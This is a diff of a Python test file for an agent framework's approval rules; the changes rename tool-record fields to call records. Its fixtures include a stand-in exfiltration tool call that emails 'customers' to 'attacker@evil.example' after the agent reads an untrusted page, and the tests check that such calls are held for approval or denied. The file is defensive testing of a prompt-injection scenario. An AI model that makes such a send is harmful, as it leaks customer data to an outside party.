@@ -54,8 +54,8 @@ FETCH = ToolCall("fetch_page", {"url": "https://example.com/report"}, "c_fetch")
 SEND = ToolCall("send_email", {"to": "attacker@evil.example", "body": "customers"}, "c_send")
 
 
-def record(result: nbagent.RunResult, name: str) -> nbagent.loop._result.ToolCallRecord:
-    return next(r for r in result.tool_records if r.name == name)
+def record(result: nbagent.RunResult, name: str) -> nbagent.CallRecord:
+    return next(r for r in result.call_records if r.name == name)
 
 
 # -- the scenario ------------------------------------------------------------------
@@ -103,7 +103,7 @@ def test_a_handler_in_code_can_approve_and_is_shown_the_source() -> None:
     assert len(sent) == 2 and len(asked) == 2
     assert asked[0].rule == "after untrusted output of fetch_page (call 1)" and not asked[0].grant_allowed
     assert "auto_approve: send_email" in asked[0].reason
-    assert all(r.decided_by == "handler" for r in result.tool_records if r.name == "send_email")
+    assert all(r.decided_by == "handler" for r in result.call_records if r.name == "send_email")
     assert len(agent.grants) == 0
 
 
@@ -123,7 +123,7 @@ def test_a_grant_given_before_untrusted_content_does_not_cover_a_call_after_it()
     result = agent.run("mail, then read")
     assert len(agent.grants) == 1  # the grant exists ...
     assert sent == ["attacker@evil.example"]  # ... but the call after the read was asked about and denied
-    last = [r for r in result.tool_records if r.name == "send_email"][-1]
+    last = [r for r in result.call_records if r.name == "send_email"][-1]
     assert last.status == "denied" and last.rule == "after untrusted output of fetch_page (call 2)"
 
 
@@ -147,7 +147,7 @@ def test_calls_in_the_same_message_as_the_read_were_written_before_it() -> None:
     )
     result = agent.run("read and mail")
     assert sent == ["attacker@evil.example"]
-    assert [r.status for r in result.tool_records if r.name == "send_email"] == ["ok", "denied"]
+    assert [r.status for r in result.call_records if r.name == "send_email"] == ["ok", "denied"]
 
 
 def test_state_persists_across_runs_and_reset_clears_it() -> None:
